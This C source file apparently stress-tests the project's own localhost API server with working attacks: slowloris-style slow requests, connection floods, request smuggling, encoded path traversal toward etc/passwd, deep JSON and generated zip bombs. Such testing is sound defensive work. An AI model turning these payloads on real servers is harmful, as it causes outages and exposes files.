#include "attacks.h"

#include "client.h"

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <zlib.h>

#define HOST        "Host: localhost\r\n"
#define GET(target) "GET " target " HTTP/1.1\r\n" HOST "\r\n"
#define POST(target, length)                                                                       \
    "POST " target " HTTP/1.1\r\n" HOST "Content-Length: " length "\r\n\r\n"
#define TIMES_8(text) text text text text text text text text

enum { BOMB_BYTES = 64 << 20, MADE_BYTES = 1 << 20, DRIP_MS = 1000 };

/* Little-endian. */
static size_t put(char *out, size_t at, uint32_t value, size_t bytes)
{
    for (size_t i = 0; i < bytes; i++)
        out[at + i] = (char)(value >> 8 * i);
    return at + bytes;
}

/* 64 MiB of zeros as raw deflate; the number of bytes. */
static size_t deflate_zeros(char *out, size_t size)
{
    static const unsigned char zeros[1 << 16];
    z_stream stream = {.next_out = (unsigned char *)out, .avail_out = (unsigned)size};
    if (deflateInit2(&stream, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY) != Z_OK)
        abort();
    for (size_t done = 0; done < BOMB_BYTES; done += sizeof(zeros)) {
        union {
            const unsigned char *constant;
            unsigned char *plain;
        } in = {.constant = zeros};
        stream.next_in = in.plain;
        stream.avail_in = sizeof(zeros);
        (void)deflate(&stream, done + sizeof(zeros) == BOMB_BYTES ? Z_FINISH : Z_NO_FLUSH);
    }
    size_t total = stream.total_out;
    deflateEnd(&stream);
    return total;
}

/* The header of a member x.npy in an archive (.ZIP File Format Specification 4.3.7 and 4.3.12). */
static size_t put_member(char *out, size_t at, bool central, uint32_t packed, uint32_t unpacked)
{
    at = put(out, at, central ? 0x02014b50 : 0x04034b50, 4);
    if (central)
        at = put(out, at, 20, 2);
    at = put(out, at, 20, 2); /* version */
    at = put(out, at, 0, 2);
    at = put(out, at, 8, 2); /* deflate */
    at = put(out, at, 0, 4);
    at = put(out, at, 0, 4); /* sum */
    at = put(out, at, packed, 4);
    at = put(out, at, unpacked, 4);
    at = put(out, at, 5, 2); /* bytes of the name */
    at = put(out, at, 0, 2);
    if (central) {
        at = put(out, at, 0, 2);
        at = put(out, at, 0, 4);
        at = put(out, at, 0, 4);
        at = put(out, at, 0, 4); /* where the member is */
    }
    memcpy(out + at, "x.npy", 5);
    return at + 5;
}

/* A request with an archive of one member that says it has `unpacked` bytes. */
static size_t make_bomb(char *out, size_t size, uint32_t unpacked)
{
    static char archive[MADE_BYTES];
    static char packed[MADE_BYTES / 2];
    size_t bytes = deflate_zeros(packed, sizeof(packed));
    size_t at = put_member(archive, 0, false, (uint32_t)bytes, unpacked);
    memcpy(archive + at, packed, bytes);
    at += bytes;
    size_t directory = at;
    at = put_member(archive, at, true, (uint32_t)bytes, unpacked);
    size_t directory_bytes = at - directory;
    at = put(archive, at, 0x06054b50, 4);
    at = put(archive, at, 0, 4);
    at = put(archive, at, 1, 2);
    at = put(archive, at, 1, 2);
    at = put(archive, at, (uint32_t)directory_bytes, 4);
    at = put(archive, at, (uint32_t)directory, 4);
    at = put(archive, at, 0, 2);
    int head = snprintf(out, size,
                        "POST /v1/datasets HTTP/1.1\r\n" HOST "Content-Length: %zu\r\n\r\n", at);
    memcpy(out + head, archive, at);
    return (size_t)head + at;
}

static size_t make_large_bomb(char *out, size_t size)
{
    return make_bomb(out, size, 3U << 30);
}

static size_t make_lying_bomb(char *out, size_t size)
{
    return make_bomb(out, size, 1000);
}

/* A specification whose one list has 80 000 values, no two of them alike. */
static size_t make_long_list(char *out, size_t size)
{
    enum { VALUES = 80 * 1000 };
    static const char id[] =
        "sha256:0000000000000000000000000000000000000000000000000000000000000000";
    static char body[MADE_BYTES];
    size_t bytes = (size_t)snprintf(body, sizeof(body),
                                    "{\"model\":\"%s\",\"calibration\":\"%s\",\"pipeline\":"
                                    "{\"optimize\":{\"learning_rate\":[0.5",
                                    id, id);
    for (int i = 0; i < VALUES; i++)
        bytes += (size_t)snprintf(body + bytes, sizeof(body) - bytes, ",0.1%06d", i);
    bytes += (size_t)snprintf(body + bytes, sizeof(body) - bytes, "]}}}");
    size_t head =
        (size_t)snprintf(out, size, "POST /v1/jobs HTTP/1.1\r\n" HOST "Content-Length: %zu\r\n\r\n",
                         bytes);
    memcpy(out + head, body, bytes);
    return head + bytes;
}

const struct attack attacks[] = {
    {.name = "slow headers",
     .held = 300,
     .opening = "GET /v1/jobs HTTP/1.1\r\n" HOST "X: ",
     .drip = "a"},
    {.name = "slow bodies", .held = 300, .opening = POST("/v1/jobs", "1000"), .drip = "x"},
    {.name = "slow uploads", .held = 300, .opening = POST("/v1/models", "100000"), .drip = "x"},
    {.name = "thousands of idle connections", .held = 3000, .opening = ""},
    {.name = "thousands of kept connections", .held = 3000, .opening = GET("/healthz")},
    {.name = "connections that say nothing", .opening = "", .vanishes = true},
    {.name = "smuggled requests",
     .opening = "POST /v1/jobs HTTP/1.1\r\n" HOST
                "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" GET("/v1/jobs")},
    {.name = "oversized headers",
     .opening = "GET /v1/jobs HTTP/1.1\r\n" HOST "X: ",
     .filler = TIMES_8(TIMES_8("aaaaaaaa")),
     .filler_bytes = 100 * 1000},
    {.name = "oversized bodies", .opening = POST("/v1/jobs", "100000000000")},
    {.name = "endless chunks",
     .opening = "POST /v1/jobs HTTP/1.1\r\n" HOST "Transfer-Encoding: chunked\r\n\r\n",
     .filler = "200\r\n" TIMES_8(TIMES_8("xxxxxxxx")) "\r\n",
     .filler_bytes = 20 << 20},
    {.name = "path tricks",
     .opening = GET("/v1/models/..%2f..%2f..%2fetc%2fpasswd/file")
         GET("/v1/runs/..%252f..%252f/artifacts/%00") GET("//v1//jobs/./../..")},
    {.name = "uploads that vanish",
     .opening = POST("/v1/models", "10000000"),
     .filler = TIMES_8(TIMES_8("xxxxxxxx")),
     .filler_bytes = 100 * 1000,
     .vanishes = true},
    /* What they hold is the attack, not what their number costs. */
    {.name = "events that vanish", .opening = GET("/v1/events"), .vanishes = true, .pause_ms = 5},
    {.name = "readers that take nothing", .held = 100, .reads_file = true},
    {.name = "deep JSON",
     .opening = POST("/v1/jobs", "1000000"),
     .filler = TIMES_8(TIMES_8("[[[[[[[[")),
     .filler_bytes = 1000 * 1000},
    {.name = "many JSON values",
     .opening = POST("/v1/jobs", "1000002") "[",
     .filler = TIMES_8(TIMES_8("0,")),
     .filler_bytes = 1000 * 1000,
     .tail = "]"},
    {.name = "a long list of values", .make = make_long_list},
    {.name = "a zip bomb that says so", .make = make_large_bomb},
    {.name = "a zip bomb that lies", .make = make_lying_bomb},
};
const size_t attack_count = sizeof(attacks) / sizeof(attacks[0]);

/* ---- carrying them out ---- */

/* Sends all of it unless the server closes first. */
static void send_opening(const struct attacker *attacker, int fd, const char *made,
                         size_t made_bytes)
{
    const struct attack *attack = attacker->attack;
    if (attack->reads_file) {
        char request[256];
        (void)snprintf(request, sizeof(request), "GET %s HTTP/1.1\r\n" HOST "\r\n", attacker->file);
        client_send_text(fd, request);
        return;
    }
    if (made != NULL) {
        client_send(fd, made, made_bytes);
        return;
    }
    bool open = client_send_text(fd, attack->opening);
    size_t piece = attack->filler != NULL ? strlen(attack->filler) : 0;
    for (size_t sent = 0; open && sent < attack->filler_bytes; sent += piece) {
        size_t left = attack->filler_bytes - sent;
        open = client_send(fd, attack->filler, left < piece ? left : piece);
    }
    if (open && attack->tail != NULL)
        client_send_text(fd, attack->tail);
}

static int open_one(struct attacker *attacker, const char *made, size_t made_bytes)
{
    int fd = client_connect(attacker->port);
    if (fd < 0)
        return fd;
    atomic_fetch_add(&attacker->connections, 1);
    send_opening(attacker, fd, made, made_bytes);
    return fd;
}

static bool is_closed(int fd)
{
    char byte;
    return recv(fd, &byte, 1, MSG_DONTWAIT | MSG_PEEK) == 0;
}

static void hold(struct attacker *attacker)
{
    const struct attack *attack = attacker->attack;
    int *fds = calloc(attack->held, sizeof(*fds));
    if (fds == NULL)
        abort();
    for (size_t i = 0; i < attack->held && !atomic_load(&attacker->stop); i++)
        fds[i] = open_one(attacker, NULL, 0);
    atomic_store(&attacker->under_way, true);
    while (!atomic_load(&attacker->stop)) {
        for (int ms = 0; ms < DRIP_MS && !atomic_load(&attacker->stop); ms += 10)
            usleep(10 * 1000);
        for (size_t i = 0; i < attack->held && !atomic_load(&attacker->stop); i++) {
            bool open = fds[i] > 0 && !is_closed(fds[i]) &&
                        (attack->drip == NULL ||
                         send(fds[i], attack->drip, 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1);
            if (open)
                continue;
            if (fds[i] > 0)
                close(fds[i]);
            fds[i] = open_one(attacker, NULL, 0);
        }
    }
    for (size_t i = 0; i < attack->held; i++) {
        if (fds[i] > 0)
            close(fds[i]);
    }
    free(fds);
}

static void flood(struct attacker *attacker)
{
    static char made[MADE_BYTES + 4096];
    const struct attack *attack = attacker->attack;
    size_t made_bytes = attack->make != NULL ? attack->make(made, sizeof(made)) : 0;
    while (!atomic_load(&attacker->stop)) {
        int fd = open_one(attacker, attack->make != NULL ? made : NULL, made_bytes);
        if (fd >= 0 && !attack->vanishes) {
            struct reply reply = client_receive(fd, false);
            reply_free(&reply);
        }
        if (fd >= 0)
            close(fd);
        atomic_store(&attacker->under_way, true);
        usleep(attack->pause_ms * 1000);
    }
}

void *attack_run(void *context)
{
    struct attacker *attacker = context;
    if (attacker->attack->held > 0)
        hold(attacker);
    else
        flood(attacker);
    return NULL;
}
